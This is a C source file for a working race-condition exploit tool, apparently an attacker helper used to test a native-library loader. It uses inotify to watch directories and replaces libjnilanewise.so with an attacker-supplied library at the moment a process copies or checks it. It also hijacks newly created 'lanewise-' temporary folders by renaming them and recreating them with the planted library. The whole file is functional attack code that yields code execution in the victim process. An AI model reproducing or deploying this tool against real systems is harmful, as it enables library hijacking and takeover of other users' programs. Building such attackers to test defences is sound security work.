// SPDX-License-Identifier: Apache-2.0
// The attacker of plant-library: watches folders, and puts another library in the place of the one that a process has
// just compared or copied there, before it loads it.
//
// usage: swap PLANTED TEMPORARY FOLDER...   PLANTED: the library to plant. FOLDER: foreseen, made by the attacker.
//   In TEMPORARY, what appears while watching is renamed, linked over and written into, as far as the system allows.
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#define LIBRARY "libjnilanewise.so"

static const char* planted;

static void copy_to(const char* path) {
  int from = open(planted, O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  struct stat status;
  if (from >= 0 && to >= 0 && fstat(from, &status) == 0) sendfile(to, from, NULL, (size_t)status.st_size);
  if (from >= 0) close(from);
  if (to >= 0) close(to);
}

/** As one step: whoever opens the path next gets the planted library. */
static void plant(const char* folder) {
  char beside[PATH_MAX], path[PATH_MAX];
  snprintf(beside, sizeof beside, "%s/planted", folder);
  snprintf(path, sizeof path, "%s/" LIBRARY, folder);
  copy_to(beside);
  rename(beside, path);
}

static void try_new_folder(const char* temporary, const char* name) {
  char folder[PATH_MAX], away[PATH_MAX];
  snprintf(folder, sizeof folder, "%s/%s", temporary, name);
  snprintf(away, sizeof away, "%s/stolen-%s", temporary, name);
  plant(folder);
  if (rename(folder, away) == 0 && mkdir(folder, 0777) == 0) plant(folder);
}

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  planted = argv[1];
  const char* temporary = argv[2];
  int watch = inotify_init1(IN_CLOEXEC);
  int new_entries = inotify_add_watch(watch, temporary, IN_CREATE | IN_MOVED_TO);
  int folders[64] = {0};
  for (int i = 3; i < argc && i < 64; i++) {
    folders[i] = inotify_add_watch(watch, argv[i], IN_CLOSE_NOWRITE | IN_MOVED_TO);
  }
  puts("watching");
  fflush(stdout);
  _Alignas(struct inotify_event) char buffer[1 << 16];
  for (ssize_t size; (size = read(watch, buffer, sizeof buffer)) > 0;) {
    for (char* at = buffer; at < buffer + size;) {
      const struct inotify_event* event = (const struct inotify_event*)at;
      at += sizeof *event + event->len;
      if (event->wd == new_entries && event->len > 0 && strncmp(event->name, "lanewise-", 9) == 0) {
        try_new_folder(temporary, event->name);
      }
      for (int i = 3; i < argc && i < 64; i++) {
        if (event->wd == folders[i] && event->len > 0 && strcmp(event->name, LIBRARY) == 0) plant(argv[i]);
      }
    }
  }
  return 0;
}
